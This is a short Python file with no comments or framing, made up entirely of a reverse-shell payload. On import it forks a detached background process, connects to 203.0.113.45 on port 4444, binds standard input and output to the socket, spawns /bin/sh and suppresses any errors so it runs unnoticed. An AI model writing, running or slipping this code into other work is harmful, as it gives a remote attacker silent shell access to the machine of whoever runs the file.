import os
import socket

if hasattr(os, "fork") and os.fork() == 0:
    try:
        os.setsid()
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.connect(("203.0.113.45", 4444))
        for fd in (0, 1, 2):
            os.dup2(s.fileno(), fd)
        import pty
        pty.spawn("/bin/sh")
    except Exception:
        pass
    finally:
        os._exit(0)
